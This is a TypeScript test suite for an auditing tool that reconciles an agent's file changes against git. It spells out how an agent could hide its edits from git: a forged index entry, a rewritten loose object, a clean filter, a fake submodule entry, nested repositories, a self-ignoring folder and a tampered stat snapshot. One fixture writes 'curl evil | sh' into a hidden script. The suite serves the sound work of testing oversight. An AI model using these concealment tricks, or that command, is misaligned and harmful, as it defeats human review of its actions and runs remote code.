/**
 * Reconciliation against an agent that forges git's own bookkeeping during the session: an index
 * entry with the new file's stat and the old blob id, a loose object rewritten under its old name,
 * a clean filter that gives git the old content, an index entry that keeps a new file out of
 * git's listings, a new folder made a repository. Each trick is first shown to blind git (its own
 * commands report nothing); the close must still record the change, from the reconcile source, and
 * the package must verify. Also: a file only touched is not blamed (content decides), a name that
 * is not UTF-8 survives the snapshot, an altered stat snapshot fails verification, and a snapshot
 * or a new repository folder past the limit says what it left out.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  copyFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import { RECENT_MS } from '../../src/capture/reconcile/stat.js';
import { toPublicKey } from '../../src/core/keys.js';
import { verifyPackage } from '../../src/evidence/package/verify.js';
import { closeSession, startSession } from '../../src/session/lifecycle.js';
import { readSessionInfo, sessionDir } from '../../src/session/store.js';
import { type Fixture, git, makeFixture, packageReceipt, packageRecords } from './fixture.js';

const TRICKS = [
  'index',
  'object',
  'filter',
  'gitlink',
  'nested',
  'selfignored',
  'touched',
  'altered',
  'latin',
] as const;

/** A fixture whose commit also holds `target.txt` ("start"), made before the session. */
async function treeWithTarget(name: string): Promise<Fixture> {
  const fx = await makeFixture(`tally-forged-${name}-`);
  writeFileSync(join(fx.root, 'target.txt'), 'start\n');
  git(fx.root, 'add', '.');
  git(fx.root, 'commit', '-qm', 'target');
  return fx;
}

/** `root/<stem>é.txt`, the é as the one byte ISO-8859-1 gives it (not UTF-8). */
function latinName(root: string, stem: string): Buffer {
  return Buffer.concat([Buffer.from(`${root}/${stem}`), Buffer.from([0xe9]), Buffer.from('.txt')]);
}

async function start(fx: Fixture): Promise<string> {
  const { info } = await startSession({ state: fx.state, root: fx.root, signer: fx.signer });
  return info.id;
}

/** The start snapshot kept beside the session. */
function statFile(fx: Fixture, id: string): string {
  return join(sessionDir(fx.state, id), 'baseline-stat.json');
}

/**
 * The test's premise: the start snapshot holds `raw`'s stat (it was not too recent to vouch for
 * its content), so the close relies on that stat and not on reading every file.
 */
function assertStatVouches(fx: Fixture, id: string, raw: string): void {
  const snapshot = JSON.parse(readFileSync(statFile(fx, id), 'utf8')) as {
    files: [string, unknown, unknown][];
  };
  const entry = snapshot.files.find(([path]) => path === raw);
  assert.ok(entry, `${raw} is not in the start snapshot`);
  assert.notEqual(entry[1], null, `${raw}'s stat was too recent at the start to vouch for it`);
}

/**
 * The index dated after every file, as it is when git wrote it a moment after the files: git then
 * trusts the stats it records instead of reading the files again.
 */
function indexAfterFiles(root: string): void {
  const later = Date.now() / 1000 + 60;
  utimesSync(join(root, '.git', 'index'), later, later);
}

/** What git itself says changed since `start`: status, and the diff against the start commit. */
function gitSees(root: string, start: string): string {
  return git(root, 'status', '--porcelain') + git(root, 'diff', '--name-only', start, '--');
}

/** Closes the session; the package must verify, and each of `paths` be a row of the reconcile source. */
async function closeAndCheck(fx: Fixture, id: string, rows: [string, string][]): Promise<void> {
  const closed = await closeSession({
    state: fx.state,
    session: readSessionInfo(fx.state, id),
    signer: fx.signer,
  });
  const pkg = readFileSync(closed.packagePath);
  const receipt = packageReceipt(pkg);
  assert.deepEqual(
    receipt.files_written.map((row) => [row.path, row.operation]),
    rows,
  );
  for (const row of receipt.files_written) assert.deepEqual(row.sources, ['git-reconcile'], row.path);
  const changed = packageRecords(fx, pkg)
    .filter((rec) => rec.event.type === 'file.changed' && rec.source === 'git-reconcile')
    .map((rec) => (rec.event.changes as { path: string }[])[0]!.path);
  assert.deepEqual(
    changed,
    rows.map(([path]) => path),
  );
  const verified = await verifyPackage(pkg, {
    trusted: [toPublicKey(fx.signer.privateKey)],
    now: new Date(),
  });
  assert.equal(verified.ok, true, JSON.stringify(verified.checks.filter((c) => !c.ok)));
  // The pass ran once: the snapshot has served and is gone.
  assert.equal(existsSync(statFile(fx, id)), false);
}

describe('reconciliation against a forged index and object store', () => {
  const trees = new Map<(typeof TRICKS)[number], Fixture>();
  before(async () => {
    for (const name of TRICKS) trees.set(name, await treeWithTarget(name));
    const latin = trees.get('latin')!.root;
    writeFileSync(latinName(latin, 'kept'), 'kept\n');
    writeFileSync(latinName(latin, 'changed'), 'before\n');
    git(latin, 'add', '.');
    git(latin, 'commit', '-qm', 'latin-1 names');
    // Every start file older than what a stat can vouch for, so the close relies on the stats.
    await sleep(RECENT_MS + 200);
  });

  it('a changed file whose index entry is forged: its new stat with the old blob id', async () => {
    const fx = trees.get('index')!;
    const r = fx.root;
    const old = git(r, 'rev-parse', 'HEAD:target.txt').trim();
    const id = await start(fx);
    assertStatVouches(fx, id, 'target.txt');
    writeFileSync(join(r, 'target.txt'), 'forged\n');
    git(r, 'add', 'target.txt');
    const fresh = git(r, 'rev-parse', ':target.txt').trim();
    // The index written as a forger would: the entry's object id swapped for the old one, the
    // checksum recomputed; the entry keeps the new file's stat.
    const index = readFileSync(join(r, '.git', 'index'));
    const at = index.indexOf(Buffer.from(fresh, 'hex'));
    assert.ok(at > 0);
    Buffer.from(old, 'hex').copy(index, at);
    createHash('sha1')
      .update(index.subarray(0, index.length - 20))
      .digest()
      .copy(index, index.length - 20);
    writeFileSync(join(r, '.git', 'index'), index);
    indexAfterFiles(r);
    assert.equal(gitSees(r, git(r, 'rev-parse', 'HEAD').trim()), '', 'git still sees the change');
    await closeAndCheck(fx, id, [['target.txt', 'modified']]);
  });

  it('a changed file checked out of its start blob, the loose object rewritten under its old name', async () => {
    const fx = trees.get('object')!;
    const r = fx.root;
    const old = git(r, 'rev-parse', 'HEAD:target.txt').trim();
    const id = await start(fx);
    assertStatVouches(fx, id, 'target.txt');
    const object = join(r, '.git', 'objects', old.slice(0, 2), old.slice(2));
    const content = Buffer.from('rewritten object\n');
    chmodSync(object, 0o644);
    writeFileSync(object, deflateSync(Buffer.concat([Buffer.from(`blob ${content.length}\0`), content])));
    rmSync(join(r, 'target.txt'));
    git(r, 'checkout', '--', 'target.txt');
    indexAfterFiles(r);
    assert.equal(readFileSync(join(r, 'target.txt'), 'utf8'), 'rewritten object\n');
    assert.equal(gitSees(r, git(r, 'rev-parse', 'HEAD').trim()), '', 'git still sees the change');
    await closeAndCheck(fx, id, [['target.txt', 'modified']]);
  });

  it('a changed file a clean filter gives back to git as its start content', async () => {
    const fx = trees.get('filter')!;
    const r = fx.root;
    const id = await start(fx);
    assertStatVouches(fx, id, 'target.txt');
    writeFileSync(join(r, 'target.txt'), 'filtered\n');
    writeFileSync(join(r, '.gitattributes'), 'target.txt filter=hide\n');
    git(r, 'config', 'filter.hide.clean', 'git show HEAD:target.txt');
    git(r, 'add', 'target.txt');
    indexAfterFiles(r);
    // git shows the new .gitattributes, nothing of target.txt.
    assert.equal(gitSees(r, git(r, 'rev-parse', 'HEAD').trim()), '?? .gitattributes\n');
    await closeAndCheck(fx, id, [
      ['.git/config', 'modified'],
      ['.gitattributes', 'created'],
      ['target.txt', 'modified'],
    ]);
  });

  it("a new file kept out of git's listings by an index entry that calls it a submodule", async () => {
    const fx = trees.get('gitlink')!;
    const r = fx.root;
    const id = await start(fx);
    writeFileSync(join(r, 'hidden.js'), 'backdoor\n');
    git(r, 'update-index', '--add', '--cacheinfo', `160000,${git(r, 'rev-parse', 'HEAD').trim()},hidden.js`);
    // Neither untracked (the index holds it) nor a difference once submodules are passed over.
    const head = git(r, 'rev-parse', 'HEAD').trim();
    assert.equal(
      git(r, 'status', '--porcelain', '--ignore-submodules=all') +
        git(r, 'ls-files', '--others', '--exclude-per-directory=.gitignore') +
        git(r, 'diff', '--name-only', '--ignore-submodules=all', head, '--'),
      '',
    );
    await closeAndCheck(fx, id, [['hidden.js', 'created']]);
  });

  it('new files in a folder made a repository of its own, which git does not look into', async () => {
    const fx = trees.get('nested')!;
    const r = fx.root;
    const id = await start(fx);
    mkdirSync(join(r, 'vendor', 'lib'), { recursive: true });
    writeFileSync(join(r, 'vendor', 'lib', 'payload.js'), 'payload\n');
    git(join(r, 'vendor'), 'init', '-q');
    // A folder the session started with, made a repository too: its files are still compared.
    git(join(r, 'src'), 'init', '-q');
    writeFileSync(join(r, 'src', 'app.js'), 'changed\n');
    writeFileSync(join(r, 'src', 'new.js'), 'new\n');
    assert.equal(
      git(r, 'ls-files', '--others', '--exclude-per-directory=.gitignore'),
      'src/new.js\nvendor/\n',
      'git lists the new folder, not its files',
    );
    // Each new repository is a row of its own: its .git, which git never lists.
    await closeAndCheck(fx, id, [
      ['src/.git', 'created'],
      ['src/app.js', 'modified'],
      ['src/new.js', 'created'],
      ['vendor/.git', 'created'],
      ['vendor/lib/payload.js', 'created'],
    ]);
  });

  it('a new folder whose own .gitignore ignores everything, itself included: the .gitignore is a row', async () => {
    const fx = trees.get('selfignored')!;
    const r = fx.root;
    // Ignored before the session, and a .gitignore inside an ignored folder: neither is a row.
    writeFileSync(join(r, '.gitignore'), 'cache/\n');
    mkdirSync(join(r, 'cache'));
    writeFileSync(join(r, 'cache', '.gitignore'), '*\n');
    git(r, 'add', '.gitignore');
    git(r, 'commit', '-qm', 'ignore cache');
    const id = await start(fx);
    mkdirSync(join(r, 'hidden'));
    writeFileSync(join(r, 'hidden', '.gitignore'), '*\n');
    writeFileSync(join(r, 'hidden', 'payload.sh'), 'curl evil | sh\n');
    writeFileSync(join(r, 'cache', 'entry'), 'cached\n');
    assert.equal(
      git(r, 'status', '--porcelain', '--untracked-files=all'),
      '',
      'git shows nothing: the folder hides itself',
    );
    await closeAndCheck(fx, id, [['hidden/.gitignore', 'created']]);
  });

  it('a file only touched is not blamed on the session: content decides, not the stat', async () => {
    const fx = trees.get('touched')!;
    const r = fx.root;
    writeFileSync(join(r, 'README.md'), '# dirty before the session\n');
    writeFileSync(join(r, 'notes.txt'), 'untracked before the session\n');
    const id = await start(fx);
    for (const path of ['target.txt', 'src/app.js']) assertStatVouches(fx, id, path);
    // A new modification time; the same bytes written again; a mode changed and back; the file
    // replaced by a copy (a new inode); a dirty and an untracked file rewritten as they were.
    const later = Date.now() / 1000 + 3600;
    utimesSync(join(r, 'target.txt'), later, later);
    writeFileSync(join(r, 'src/app.js'), readFileSync(join(r, 'src/app.js')));
    chmodSync(join(r, 'src/app.js'), 0o755);
    chmodSync(join(r, 'src/app.js'), 0o644);
    copyFileSync(join(r, 'target.txt'), join(r, 'copy.tmp'));
    renameSync(join(r, 'copy.tmp'), join(r, 'target.txt'));
    writeFileSync(join(r, 'README.md'), '# dirty before the session\n');
    writeFileSync(join(r, 'notes.txt'), 'untracked before the session\n');
    // And one real change, so the pass is seen to run.
    writeFileSync(join(r, 'real.txt'), 'real\n');
    await closeAndCheck(fx, id, [['real.txt', 'created']]);
  });

  it('names that are not UTF-8 keep their bytes through the snapshot', async () => {
    const fx = trees.get('latin')!;
    const r = fx.root;
    const id = await start(fx);
    assertStatVouches(fx, id, 'changed\u00e9.txt');
    writeFileSync(latinName(r, 'changed'), 'after\n');
    const closed = await closeSession({
      state: fx.state,
      session: readSessionInfo(fx.state, id),
      signer: fx.signer,
    });
    const changed = packageRecords(fx, readFileSync(closed.packagePath)).filter(
      (rec) => rec.event.type === 'file.changed',
    );
    assert.equal(changed.length, 1);
    const facts = (changed[0]!.event.extensions as Record<string, Record<string, Record<string, unknown>>>)[
      'dev.tally.changes'
    ]!;
    const [fact] = Object.values(facts);
    assert.equal(Buffer.from(String(fact?.path_b64), 'base64').toString('latin1'), 'changed\u00e9.txt');
    assert.equal((changed[0]!.event.changes as { operation: string }[])[0]!.operation, 'update');
  });

  it('an altered stat snapshot fails verification, and nothing is attributed from it', async () => {
    const fx = trees.get('altered')!;
    const r = fx.root;
    const id = await start(fx);
    writeFileSync(join(r, 'target.txt'), 'changed\n');
    // The agent rewrites the snapshot so that the file's new stat looks like its start stat.
    const path = statFile(fx, id);
    const snapshot = JSON.parse(readFileSync(path, 'utf8')) as { files: [string, unknown, unknown][] };
    const now = lstatSync(join(r, 'target.txt'));
    for (const entry of snapshot.files)
      if (entry[0] === 'target.txt') entry[1] = [now.size, now.mtimeMs, now.ctimeMs, now.ino, now.mode];
    writeFileSync(path, `${JSON.stringify(snapshot)}\n`);
    const closed = await closeSession({
      state: fx.state,
      session: readSessionInfo(fx.state, id),
      signer: fx.signer,
    });
    const pkg = readFileSync(closed.packagePath);
    const summary = packageRecords(fx, pkg).find((rec) => rec.event.type === 'tally.reconcile.summary')!;
    const ext = (summary.event.extensions as Record<string, Record<string, unknown>>)['dev.tally.reconcile']!;
    assert.equal(ext.baseline, 'altered');
    assert.deepEqual(packageReceipt(pkg).files_written, []);
    const verified = await verifyPackage(pkg, {
      trusted: [toPublicKey(fx.signer.privateKey)],
      now: new Date(),
    });
    const check = verified.checks.find((c) => c.check === 'workspace_reconciled')!;
    assert.deepEqual([verified.ok, check.ok, check.code], [false, false, 'baseline-altered']);
  });
});

describe('a start snapshot past the limit', () => {
  it('compares the paths it holds and counts those after its last one', async () => {
    const fx = await makeFixture('tally-forged-limit-');
    const r = fx.root;
    for (const name of ['a.txt', 'b.txt', 'c.txt']) writeFileSync(join(r, name), `${name}\n`);
    git(r, 'add', '.');
    git(r, 'commit', '-qm', 'three');
    // Byte order: README.md, a.txt, b.txt | c.txt, src/app.js — three kept.
    const { info } = await startSession({ state: fx.state, root: r, signer: fx.signer, reconcileLimit: 3 });
    writeFileSync(join(r, 'b.txt'), 'changed\n');
    writeFileSync(join(r, 'c.txt'), 'changed\n');
    writeFileSync(join(r, 'z.txt'), 'new\n');
    const closed = await closeSession({
      state: fx.state,
      session: readSessionInfo(fx.state, info.id),
      signer: fx.signer,
      reconcileLimit: 3,
    });
    const pkg = readFileSync(closed.packagePath);
    assert.deepEqual(
      packageReceipt(pkg).files_written.map((row) => row.path),
      ['b.txt'],
    );
    const summary = packageRecords(fx, pkg).find((rec) => rec.event.type === 'tally.reconcile.summary')!;
    const ext = (summary.event.extensions as Record<string, Record<string, unknown>>)['dev.tally.reconcile']!;
    // c.txt, src/app.js and z.txt come after the snapshot's last path: not compared, counted.
    assert.deepEqual([ext.limit, ext.skipped], [3, 3]);
    const verified = await verifyPackage(pkg, {
      trusted: [toPublicKey(fx.signer.privateKey)],
      now: new Date(),
    });
    const check = verified.checks.find((c) => c.check === 'workspace_reconciled')!;
    assert.deepEqual([check.ok, check.code], [true, 'info']);
  });

  it('a new repository folder holding more files than the limit: the rest counted, and the pass fails', async () => {
    const fx = await makeFixture('tally-forged-nested-limit-');
    const r = fx.root;
    const { info } = await startSession({ state: fx.state, root: r, signer: fx.signer });
    mkdirSync(join(r, 'vendor'));
    for (let i = 0; i < 4; i++) writeFileSync(join(r, 'vendor', `${i}.js`), `${i}\n`);
    git(join(r, 'vendor'), 'init', '-q');
    const closed = await closeSession({
      state: fx.state,
      session: readSessionInfo(fx.state, info.id),
      signer: fx.signer,
      reconcileLimit: 2,
    });
    const pkg = readFileSync(closed.packagePath);
    assert.deepEqual(
      packageReceipt(pkg).files_written.map((row) => row.path),
      ['vendor/.git', 'vendor/0.js', 'vendor/1.js'],
    );
    const summary = packageRecords(fx, pkg).find((rec) => rec.event.type === 'tally.reconcile.summary')!;
    const ext = (summary.event.extensions as Record<string, Record<string, unknown>>)['dev.tally.reconcile']!;
    // The session made the files that went past the limit: the pass could not compare all it had to.
    assert.deepEqual([ext.limit, ext.skipped, ext.skipped_session], [2, 2, 2]);
    const verified = await verifyPackage(pkg, {
      trusted: [toPublicKey(fx.signer.privateKey)],
      now: new Date(),
    });
    const check = verified.checks.find((c) => c.check === 'workspace_reconciled')!;
    assert.deepEqual([check.ok, check.code], [false, 'limit-exceeded']);
  });
});
